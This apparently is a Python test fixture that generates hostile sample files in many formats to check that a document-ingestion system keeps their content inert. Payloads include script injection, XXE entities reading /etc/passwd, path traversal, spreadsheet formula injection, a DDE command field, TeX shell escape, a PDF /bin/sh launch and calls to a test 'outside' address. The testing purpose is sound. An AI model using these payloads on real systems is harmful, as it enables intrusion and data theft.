"""A document of each format that tries to run a script, to change the page, or to load something.

Each says ``SAFE`` in its words, too, and whatever its format knows of scripts, styles, handlers and
addresses names ``outside``: an address where a test listens for whoever comes.
"""

from __future__ import annotations

import io
import json
import zipfile
from email.message import EmailMessage
from html import escape

from tests.compound import compound_file
from tests.ingest.formats.test_doc import doc

NAMES = (
    *("text.txt", "markdown.md", "structured.rst", "page.html", "page.xhtml", "portable.pdf"),
    *("word.docx", "old.doc", "slides.pptx", "sheet.xlsx", "open.odt", "rich.rtf", "book.epub"),
    *("rows.csv", "data.json", "lines.jsonl", "notebook.ipynb", "mail.eml", "folder.mbox"),
    *("outlook.msg", "film.srt", "paper.tex", "packed.zip"),
)
SAFE = "The harbour is nine metres deep."
RUN = "window.hacked=1"
# What stands in a document's words and must stay words.
WORDS = f"<script>{RUN}</script><img src=x onerror={RUN}> {SAFE}"
_TITLE = f"<img src=x onerror={RUN}>"


def hostile_documents(outside: str) -> dict[str, bytes]:
    """Return the documents of ``NAMES``.

    Args:
        outside: an address without the slash at its end.
    """
    markup = _markup(outside)
    page = (
        f"<html><head><title>{escape(_TITLE)}</title></head><body>{markup}"
        f"<h1>{escape(WORDS)}</h1><p>{SAFE}</p></body></html>"
    )
    entities = (
        f'<!DOCTYPE html PUBLIC "-//X//DTD//EN" "{outside}/dtd" [<!ENTITY file SYSTEM '
        f'"file:///etc/passwd"><!ENTITY net SYSTEM "{outside}/entity">]>'
    )
    xhtml = (
        f'<?xml version="1.0"?><?xml-stylesheet href="{outside}/xsl" type="text/xsl"?>{entities}'
        '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="window.hacked=1">'
        f"<script>{RUN}</script><p>&file;&net;{SAFE}</p></body></html>"
    )
    zipped = _zipped({"inner.html": page})
    return {
        "text.txt": WORDS.encode(),
        "markdown.md": f"# {WORDS}\n\n{markup}\n\n![x]({outside}/md.png)\n\n"
        f"[click](javascript:{RUN}) {SAFE}\n".encode(),
        "structured.rst": f"{SAFE}\n\n.. include:: /etc/passwd\n\n.. raw:: html\n\n   "
        f"<script>{RUN}</script>\n\n.. image:: {outside}/rst.png\n".encode(),
        "page.html": page.encode(),
        "page.xhtml": xhtml.encode(),
        "portable.pdf": _pdf(outside),
        "word.docx": _docx(outside, page),
        "old.doc": doc((f"{WORDS}\r", 0, b"")),
        "slides.pptx": _pptx(outside),
        "sheet.xlsx": _xlsx(outside),
        "open.odt": _odt(outside, entities),
        "rich.rtf": (
            r"{\rtf1\ansi{\field{\*\fldinst{INCLUDEPICTURE "
            f'"{outside}/rtf.png"'
            r"}}{\fldrslt }}{\object\objautlink{\*\objdata 00}} "
            f"{WORDS}\\par}}"
        ).encode(),
        "book.epub": _epub(page, outside),
        "rows.csv": f'Name,Value\n"=WEBSERVICE(""{outside}/csv"")","{WORDS}"\n'.encode(),
        "data.json": json.dumps({_TITLE: WORDS}).encode(),
        "lines.jsonl": json.dumps({"__proto__": {"hacked": 1}, "text": WORDS}).encode(),
        "notebook.ipynb": _notebook(page),
        "mail.eml": _mail(page, outside),
        "folder.mbox": b"From a@b Fri May  3 10:00:00 2024\n" + _mail(page, outside),
        "outlook.msg": compound_file(
            {
                "__substg1.0_0037001F": _TITLE.encode("utf-16-le"),
                "__substg1.0_1000001F": WORDS.encode("utf-16-le"),
            }
        ),
        "film.srt": b"1\n00:00:01,000 --> 00:00:02,000\n"
        + f"<font onclick={RUN}>{WORDS}</font>\n".encode(),
        "paper.tex": (
            r"\documentclass{article}\begin{document}\input{/etc/passwd}\immediate\write18{id}"
            rf"\includegraphics{{{outside}/tex.png}}\href{{javascript:{RUN}}}{{x}} {SAFE} {WORDS}"
            r"\end{document}"
        ).encode(),
        "packed.zip": zipped,
    }


def _markup(outside: str) -> str:
    """HTML that runs, loads, covers and leads away, as far as a browser lets it."""
    return (
        f'<base href="{outside}/"><meta http-equiv="refresh" content="0;url={outside}/meta">'
        f'<script>{RUN}</script><script src="{outside}/script.js"></script>'
        f'<style>@import "{outside}/import.css"; body {{ display: none; '
        f'background: url("{outside}/style.png") }}</style>'
        f'<link rel="stylesheet" href="{outside}/link.css">'
        f'<img src="{outside}/img.png" onerror="{RUN}" onload="{RUN}">'
        f'<svg onload="{RUN}"><image href="{outside}/svg.png"/><script>{RUN}</script></svg>'
        f'<iframe src="javascript:parent.hacked=1"></iframe><iframe srcdoc="<script>top.{RUN}'
        f'</script>"></iframe><object data="{outside}/object"></object>'
        f'<embed src="{outside}/embed">'
        f'<video src="{outside}/video" autoplay onerror="{RUN}"></video>'
        f'<form action="{outside}/form"><input autofocus onfocus="{RUN}"></form>'
        f'<a href="javascript:{RUN}" style="position:fixed;inset:0">harbour</a>'
        f'<div style="position:fixed;inset:0;background:red" onmouseover="{RUN}"></div>'
        f"<template><script>{RUN}</script></template><math href='javascript:{RUN}'>x</math>"
    )


def _zipped(members: dict[str, str | bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def _changed(
    data: bytes, changes: dict[str, tuple[bytes, bytes]], more: dict[str, str | bytes]
) -> bytes:
    """A package in whose members something is replaced, and with members more."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        members: dict[str, str | bytes] = {
            name: package.read(name).replace(*changes.get(name, (b"\0", b"\0")))
            for name in package.namelist()
        }
    return _zipped(members | more)


def _docx(outside: str, page: str) -> bytes:
    """A Word document with pictures, a template, a frame and a whole page of HTML from outside."""
    import docx

    document = docx.Document()
    document.core_properties.title = _TITLE
    document.add_heading(WORDS, 1)
    document.add_paragraph(SAFE)
    file = io.BytesIO()
    document.save(file)
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    external = "".join(
        f'<Relationship Id="x{kind}" Type="{office}/{kind}" Target="{outside}/{kind}" '
        'TargetMode="External"/>'
        for kind in ("image", "attachedTemplate", "frame", "oleObject", "hyperlink")
    )
    inside = f'<Relationship Id="chunk" Type="{office}/aFChunk" Target="chunk.html"/>'
    body = (
        f'<w:p><w:r><w:instrText>INCLUDEPICTURE "{outside}/field.png"</w:instrText></w:r></w:p>'
        f'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd "/c x"</w:instrText></w:r></w:p>'
        f'<w:altChunk xmlns:r="{office}" r:id="chunk"/>'
    )
    return _changed(
        file.getvalue(),
        {
            "word/_rels/document.xml.rels": (
                b"</Relationships>",
                f"{external}{inside}</Relationships>".encode(),
            ),
            "word/document.xml": (b"<w:sectPr", body.encode() + b"<w:sectPr"),
            "[Content_Types].xml": (
                b"<Default ",
                b'<Default Extension="html" ContentType="text/html"/><Default ',
            ),
        },
        {"word/chunk.html": page},
    )


def _pptx(outside: str) -> bytes:
    office = "http://schemas.openxmlformats.org"

    def relations(*found: tuple[str, str, str]) -> str:
        return (
            f'<Relationships xmlns="{office}/package/2006/relationships">'
            + "".join(
                f'<Relationship Id="{id}" Type="http://x/{kind}" Target="{target}"/>'
                for id, kind, target in found
            )
            + "</Relationships>"
        )

    return _zipped(
        {
            "_rels/.rels": relations(("r1", "officeDocument", "ppt/presentation.xml")),
            "ppt/presentation.xml": '<p:p xmlns:p="p" xmlns:r="r"><p:sldId r:id="r1"/></p:p>',
            "ppt/_rels/presentation.xml.rels": relations(("r1", "slide", "slides/slide1.xml")),
            "ppt/slides/slide1.xml": '<p:sld xmlns:p="p" xmlns:a="a"><p:sp><p:ph type="title"/>'
            f"<a:p><a:t>{escape(WORDS)}</a:t></a:p></p:sp><p:sp><a:p><a:t>{SAFE}</a:t></a:p></p:sp>"
            "</p:sld>",
            "ppt/slides/_rels/slide1.xml.rels": relations(
                ("r1", "image", f"{outside}/pptx.png"), ("r2", "notesSlide", "../../../../etc/x")
            ),
        }
    )


def _xlsx(outside: str) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Name", "Value"])
    sheet.append([f'=WEBSERVICE("{outside}/xlsx")', WORDS])
    sheet.append([f'=HYPERLINK("javascript:{RUN}","x")', SAFE])
    sheet["B3"].hyperlink = f"javascript:{RUN}"
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def _odt(outside: str, entities: str) -> bytes:
    return _zipped(
        {
            "content.xml": f'{entities}<office:document-content xmlns:office="o" xmlns:text="t" '
            f'xmlns:draw="d" xmlns:xlink="l" xmlns:script="s"><office:scripts><office:script>{RUN}'
            "</office:script></office:scripts><office:body><office:text>"
            f'<draw:image xlink:href="{outside}/odt.png"/><text:p><text:a xlink:href="javascript:'
            f'{RUN}">x</text:a>&file;&net;{escape(WORDS)}</text:p><text:p>{SAFE}</text:p>'
            "</office:text></office:body></office:document-content>"
        }
    )


def _epub(page: str, outside: str) -> bytes:
    return _zipped(
        {
            "META-INF/container.xml": '<c><rootfile full-path="book.opf"/></c>',
            "book.opf": f'<package xmlns:dc="dc"><dc:title>{escape(_TITLE)}</dc:title>'
            '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>'
            f'<item id="b" href="{outside}/b.xhtml" media-type="application/xhtml+xml"/>'
            '<item id="c" href="../../../etc/passwd" media-type="application/xhtml+xml"/>'
            '<itemref idref="a"/><itemref idref="b"/><itemref idref="c"/></package>',
            "a.xhtml": page,
        }
    )


def _notebook(page: str) -> bytes:
    output = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": [page], "application/javascript": [RUN], "text/plain": [WORDS]},
    }
    code = {
        "cell_type": "code",
        "source": [RUN],
        "outputs": [output],
        "metadata": {},
        "execution_count": 1,
    }
    text = {"cell_type": "markdown", "source": [f"{page}\n\n{WORDS}"], "metadata": {}}
    return json.dumps(
        {"cells": [text, code], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    ).encode()


def _mail(page: str, outside: str) -> bytes:
    mail = EmailMessage()
    mail["From"] = f'"{_TITLE}" <a@example.org>'
    mail["Subject"] = _TITLE
    mail["Disposition-Notification-To"] = "a@example.org"
    mail.set_content(page, subtype="html")
    mail.add_attachment(page, subtype="html", filename="../../attached.html")
    mail["List-Unsubscribe"] = f"<{outside}/unsubscribe>"
    return mail.as_bytes()


def _pdf(outside: str) -> bytes:
    """A PDF with scripts at all its doors, a program to start, a form to send, links and a file."""
    from reportlab.pdfgen.canvas import Canvas

    file = io.BytesIO()
    canvas = Canvas(file, pagesize=(595, 842), invariant=True)
    canvas.setTitle(_TITLE)
    canvas.bookmarkPage("a")
    canvas.addOutlineEntry(WORDS, "a")
    canvas.drawString(60, 760, SAFE)
    canvas.drawString(60, 740, WORDS)
    canvas.linkURL(f"javascript:{RUN}", (60, 700, 300, 720))
    canvas.linkURL(f"{outside}/link", (60, 730, 300, 770))
    canvas.showPage()
    canvas.save()

    import pypdf
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(file))

    def action(kind: str, key: str, value: str) -> DictionaryObject:
        return DictionaryObject(
            {
                NameObject("/S"): NameObject(kind),
                NameObject(key): TextStringObject(value),
            }
        )

    script = f"app.launchURL('{outside}/js', true); this.submitForm('{outside}/submit');"
    writer.add_attachment("attached.html", f"<script>{RUN}</script>".encode())
    writer.root_object[NameObject("/OpenAction")] = action("/JavaScript", "/JS", script)
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/O"): action("/Launch", "/F", "/bin/sh"),
            NameObject("/C"): action("/URI", "/URI", f"{outside}/uri"),
        }
    )
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()
